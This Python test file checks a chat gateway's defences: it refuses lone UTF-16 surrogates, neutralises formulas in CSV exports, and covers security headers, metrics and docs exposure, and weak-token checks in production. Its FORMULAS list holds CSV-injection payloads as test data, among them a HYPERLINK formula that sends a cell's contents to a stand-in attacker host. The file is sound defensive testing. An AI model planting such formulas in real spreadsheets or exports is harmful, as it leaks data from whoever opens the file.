"""Issue #15, findings 7, 8 and 12: lone surrogates, formulas in CSV exports, and response/deployment hygiene.

Real HTTP against a gateway without a worker (SQLite and PostgreSQL); the production-configured
gateways are started here, each on a database of its own.
"""

from __future__ import annotations

import csv
import io
import logging
import os
import secrets
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from pydantic import ValidationError

from ai_worker.settings import WorkerSettings
from gateway.app import create_app
from gateway.migrate import upgrade
from gateway.settings import GatewaySettings
from parley_contract.logging import make_handler
from parley_testkit.servers import ROOT, UvicornThread
from parley_testkit.stack import Stack
from tests.gateway.admin_support import TenantKeys, new_tenant, post_message
from tests.support import redis_dbs as dbs
from tests.support.databases import redis_url

SURROGATE = "\\ud800"  # as it is written inside a JSON string: a lone high surrogate


def raw_json(template: str, **values: str) -> bytes:
    """A JSON body written by hand: httpx cannot encode a lone surrogate, an attacker's client can."""
    return template.format(**values).encode("ascii")


MESSAGE = (
    '{{"channel": "web", "chat_id": "{chat_id}", "user": {{"id": "{user_id}", "name": "{name}"}}, "text": "{text}"}}'
)


def message_body(**bad: str) -> bytes:
    fields = {"chat_id": "surrogate-chat", "user_id": "u1", "name": "Customer", "text": "hello", **bad}
    return raw_json(MESSAGE, **fields)


def post_raw(client: httpx.Client, path: str, body: bytes) -> httpx.Response:
    # With an Idempotency-Key, as the adapters send every message: its middleware hashes the body first.
    headers = {"Content-Type": "application/json", "Idempotency-Key": uuid.uuid4().hex}
    return client.post(path, content=body, headers=headers)


@pytest.fixture
def gateway_log() -> Iterator[io.StringIO]:
    """What the in-process gateway logs, through the handler `python -m gateway` installs (LOG_CONTENT off)."""
    stream = io.StringIO()
    handler = make_handler(json_lines=True, log_content=False, stream=stream)
    # uvicorn logs an application's exception on `uvicorn.error`, which does not reach the root here.
    loggers = [logging.getLogger(), logging.getLogger("uvicorn.error")]
    for logger in loggers:
        logger.addHandler(handler)
    yield stream
    for logger in loggers:
        logger.removeHandler(handler)


def settled(log: io.StringIO) -> str:
    """The log once the server thread is done with the request: uvicorn logs an application's
    exception after the 500 was sent, so the client can see the response first."""
    time.sleep(0.5)
    return log.getvalue()


# ---- finding 7: lone surrogates ----


@pytest.mark.parametrize(
    ("field", "loc"),
    [
        ("text", ["body", "text"]),
        ("chat_id", ["body", "chat_id"]),
        ("user_id", ["body", "user", "id"]),
        ("name", ["body", "user", "name"]),
    ],
)
def test_a_lone_surrogate_in_a_message_is_refused_with_422(
    gateway: Stack, gateway_log: io.StringIO, field: str, loc: list[str]
) -> None:
    marker = f"zq{uuid.uuid4().hex[:10]}"
    response = post_raw(gateway.client(), "/api/v1/messages", message_body(**{field: f"{marker} {SURROGATE} y"}))
    assert response.status_code == 422, response.text
    (error,) = response.json()["detail"]
    assert error["loc"] == loc
    assert "unpaired UTF-16 surrogate" in error["msg"]
    assert "input" not in error  # the undecodable input is never echoed
    assert marker not in settled(gateway_log)


def test_a_lone_surrogate_in_a_field_name_is_refused_with_422(gateway: Stack) -> None:
    body = b'{"channel": "web", "chat_id": "c", "user": {"id": "u1"}, "text": "hi", "x\\udfff": 1}'
    response = post_raw(gateway.client(), "/api/v1/messages", body)
    assert response.status_code == 422, response.text
    (error,) = response.json()["detail"]
    assert error["loc"] == ["body", "x\\udfff"] and "unpaired UTF-16 surrogate" in error["msg"]


def test_a_surrogate_pair_is_an_ordinary_character(gateway: Stack) -> None:
    """An emoji written as a JSON surrogate pair (as ensure_ascii clients send it) is accepted."""
    body = message_body(chat_id=f"emoji-{uuid.uuid4().hex[:8]}", text="thanks \\ud83d\\ude00")
    response = post_raw(gateway.client(), "/api/v1/messages", body)
    assert response.status_code == 202, response.text


def test_a_lone_surrogate_on_chat_completions_is_refused_in_openais_shape(
    gateway: Stack, gateway_log: io.StringIO
) -> None:
    marker = f"zq{uuid.uuid4().hex[:10]}"
    body = raw_json(
        '{{"model": "parley", "messages": [{{"role": "user", "content": "{text}"}}]}}', text=f"{marker} {SURROGATE}"
    )
    response = post_raw(gateway.client(), "/v1/chat/completions", body)
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert error["type"] == "invalid_request_error"
    assert (
        error["message"] == "messages.0.content: String contains an unpaired UTF-16 surrogate; send valid Unicode text"
    )
    assert marker not in settled(gateway_log)


def test_a_deeply_nested_body_with_a_lone_surrogate_is_refused_not_crashed(gateway: Stack) -> None:
    nested = "[" * 800 + '"' + SURROGATE + '"' + "]" * 800
    body = raw_json(
        '{{"channel": "web", "chat_id": "c", "user": {{"id": "u1"}}, "text": "hi", "extra": {nested}}}', nested=nested
    )
    response = post_raw(gateway.client(), "/api/v1/messages", body)
    assert response.status_code == 422, response.text
    assert "unpaired UTF-16 surrogate" in response.json()["detail"][0]["msg"]


# ---- finding 8: formulas in CSV exports ----

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]


def exported_rows(tenant: TenantKeys, path: str) -> list[list[str]]:
    response = tenant.admin.get(tenant.url(path), params={"format": "csv"})
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.text, newline="")))


def test_csv_exports_defuse_cells_a_spreadsheet_would_run(gateway: Stack) -> None:
    tenant = new_tenant(gateway)
    chat_id = "=1+2"
    for text in [*FORMULAS, "a plain question = fine"]:
        post_message(tenant, text, chat_id=chat_id)
    conversation = tenant.admin.get(tenant.url("/conversations")).json()["items"][0]["conversation_id"]

    header, *rows = exported_rows(tenant, "/conversations/export")
    assert header[:3] == ["conversation_id", "channel", "chat_id"]
    assert {row[2] for row in rows} == {"'=1+2"}
    texts = [row[header.index("text")] for row in rows]
    assert sorted(texts) == sorted(["'" + formula for formula in FORMULAS] + ["a plain question = fine"])

    header, *rows = exported_rows(tenant, f"/conversations/{conversation}/export")
    assert sorted(row[header.index("text")] for row in rows) == sorted(texts)
    # JSON exports are data, not a spreadsheet: the text stays exactly as written.
    exported = tenant.admin.get(tenant.url(f"/conversations/{conversation}/export")).json()
    assert exported["chat_id"] == chat_id and FORMULAS[0] in [m["text"] for m in exported["messages"]]


# ---- finding 12: headers, docs, metrics, /ready, production tokens ----


def assert_hygienic(response: httpx.Response) -> None:
    assert response.headers["X-Content-Type-Options"] == "nosniff", response.request.url
    assert response.headers["Cache-Control"] == "no-store", response.request.url


def test_every_response_says_nosniff_and_no_store(gateway: Stack) -> None:
    service, anonymous = gateway.client(), gateway.client(token=None)
    tenant = new_tenant(gateway)
    post_message(tenant, "Is there parking?")
    conversation = tenant.admin.get(tenant.url("/conversations")).json()["items"][0]["conversation_id"]
    responses = [
        anonymous.get("/health"),
        anonymous.get("/api/v1/tasks/nope"),  # 401
        anonymous.get("/no/such/path"),  # 404
        service.post("/api/v1/messages", json={"channel": "web"}),  # 422
        service.post("/api/v1/messages", content=b"x" * (gateway.settings.max_body_bytes + 1)),  # 413, a middleware's
        gateway.client("admin").get("/api/v1/admin/tenants"),
        tenant.admin.get(tenant.url(f"/conversations/{conversation}/export"), params={"format": "csv"}),
        anonymous.get("/metrics"),
        anonymous.get("/openapi.json"),
    ]
    assert [r.status_code for r in responses] == [200, 401, 404, 422, 413, 200, 200, 200, 200]
    for response in responses:
        assert_hygienic(response)


def test_outside_production_the_docs_and_metrics_are_served(gateway: Stack) -> None:
    anonymous = gateway.client(token=None)
    for path in ("/docs", "/redoc", "/openapi.json", "/metrics"):
        assert anonymous.get(path).status_code == 200, path


def test_ready_shows_its_checks_to_the_operators_only(gateway: Stack) -> None:
    tenant = new_tenant(gateway)
    # No worker runs here: not ready, and only the operator learns why. An admin key of the default
    # tenant made through the API is an admin, not the operator (finding 1).
    default_tenant_admin = gateway.client_with_key(gateway.new_key(gateway.settings.default_tenant_id, "admin"))
    for client in (gateway.client(token=None), gateway.client(), tenant.admin, tenant.partner, default_tenant_admin):
        response = client.get("/ready")
        assert response.status_code == 503
        assert response.json() == {"ready": False}
    response = gateway.client("admin").get("/ready")
    assert response.status_code == 503
    checks = response.json()["checks"]
    assert checks["database"] == "ok" and checks["redis"] == "ok" and checks["workers"].startswith("no live worker")


STRONG: dict[str, Any] = {name: secrets.token_urlsafe(32) for name in ("service_token", "admin_token", "worker_token")}


@contextmanager
def production_gateway(workdir: Path, **overrides: Any) -> Iterator[str]:
    """A gateway with PARLEY_ENV=production (and strong tokens) on a database of its own; its URL."""
    settings = GatewaySettings(
        _env_file=None,
        parley_env="production",
        database_url=f"sqlite:///{workdir / 'parley.db'}",
        redis_url=redis_url(dbs.HYGIENE),
        **STRONG,
        **overrides,
    )
    upgrade(settings)
    server = UvicornThread(create_app(settings)).start()
    try:
        yield server.url
    finally:
        server.stop()


def test_production_serves_no_docs_and_no_metrics_by_default(tmp_path: Path) -> None:
    with production_gateway(tmp_path) as url, httpx.Client(base_url=url) as client:
        for path in ("/docs", "/redoc", "/openapi.json", "/metrics"):
            assert client.get(path).status_code == 404, path
        health = client.get("/health")
        assert health.status_code == 200
        assert_hygienic(health)


def test_production_metrics_need_the_metrics_token_and_docs_can_be_turned_on(tmp_path: Path) -> None:
    token = secrets.token_urlsafe(32)
    with production_gateway(tmp_path, metrics_token=token, api_docs=True) as url, httpx.Client(base_url=url) as client:
        assert client.get("/metrics").status_code == 401
        assert client.get("/metrics", headers={"Authorization": "Bearer " + STRONG["admin_token"]}).status_code == 401
        scraped = client.get("/metrics", headers={"Authorization": f"Bearer {token}"})
        assert scraped.status_code == 200 and "http_requests_total" in scraped.text
        assert client.get("/docs").status_code == 200 and client.get("/openapi.json").status_code == 200


@pytest.mark.parametrize(
    ("field", "value", "problem"),
    [
        ("service_token", "x", "SERVICE_TOKEN is 1 characters long"),
        ("admin_token", secrets.token_urlsafe(32)[:31], "ADMIN_TOKEN is 31 characters long"),
        ("worker_token", "ab" * 20, "WORKER_TOKEN has fewer than 10 distinct characters"),
        ("metrics_token", "changeme", "METRICS_TOKEN is 8 characters long"),
    ],
    ids=["one-character", "31-characters", "two-distinct-characters", "metrics-token"],
)
def test_production_refuses_a_short_or_repetitive_token(field: str, value: str, problem: str) -> None:
    with pytest.raises(ValidationError) as refused:
        GatewaySettings(_env_file=None, parley_env="production", **{**STRONG, field: value})
    assert problem in str(refused.value) and "token_urlsafe" in str(refused.value)
    assert value not in str(refused.value)  # the error never prints the secret
    # Outside production a short token is fine, and so is no metrics token in production.
    GatewaySettings(_env_file=None, parley_env="development", **{**STRONG, field: value})
    GatewaySettings(_env_file=None, parley_env="production", **STRONG, metrics_token="")


def test_the_worker_refuses_a_short_worker_token_in_production() -> None:
    with pytest.raises(ValidationError, match="WORKER_TOKEN is 5 characters long"):
        WorkerSettings(_env_file=None, parley_env="production", worker_token="short")


def test_the_gateway_process_refuses_to_start_with_a_weak_token(tmp_path: Path) -> None:
    env = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "PARLEY_ENV": "production",
        "SERVICE_TOKEN": STRONG["service_token"],
        "ADMIN_TOKEN": "hunter2",
        "WORKER_TOKEN": STRONG["worker_token"],
        "DATABASE_URL": f"sqlite:///{tmp_path / 'parley.db'}",
    }
    started = subprocess.run(
        [sys.executable, "-m", "gateway", "serve", "--port", "1"],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert started.returncode != 0
    assert "ADMIN_TOKEN is 7 characters long" in started.stderr and "hunter2" not in started.stderr


def test_compose_hands_the_metrics_token_to_prometheus() -> None:
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text())
    prometheus = yaml.safe_load((ROOT / "monitoring" / "prometheus.yml").read_text())
    gateway_job = next(job for job in prometheus["scrape_configs"] if job["job_name"] == "parley-gateway")
    assert gateway_job["authorization"] == {"type": "Bearer", "credentials_file": "/run/secrets/metrics_token"}
    assert compose["secrets"]["metrics_token"] == {"environment": "METRICS_TOKEN"}
    assert "metrics_token" in compose["services"]["prometheus"]["secrets"]
    assert compose["services"]["gateway"]["environment"]["METRICS_TOKEN"] == "${METRICS_TOKEN:-}"


def test_a_language_tag_longer_than_the_contacts_column_is_a_422(gateway: Stack) -> None:
    """schemathesis found it: a valid-looking 47-character tag reached PostgreSQL's 35-character
    column and the message was answered 503 (SQLite stored it whole)."""
    tag = "OhM-XvMo-Wo7Mr4Ow-Av_0yT2owXb-iL8i_CU0P_b9-E1"
    user = {"id": "u-lang", "language": tag}
    body = {"channel": "web", "chat_id": "c-lang", "user": user, "text": "Do you deliver to Sharjah?"}
    response = gateway.client().post("/api/v1/messages", json=body)
    assert response.status_code == 422, response.text
    assert response.json()["detail"][0]["loc"] == ["body", "user", "language"]
